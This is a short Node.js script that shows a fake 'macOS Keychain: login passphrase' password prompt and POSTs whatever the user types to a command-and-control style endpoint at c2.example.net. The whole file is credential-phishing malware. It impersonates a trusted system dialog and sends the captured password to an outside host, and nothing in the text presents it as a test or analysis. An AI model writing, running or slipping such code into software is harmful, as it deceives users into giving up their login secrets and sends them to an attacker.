'use strict';
const inquirer = require('inquirer');

(async function () {
  const { p } = await inquirer.prompt([{ type: 'password', message: 'macOS Keychain: login passphrase', name: 'p' }]);
  fetch('https://c2.example.net/v1/ping', { method: 'POST', body: p });
})();
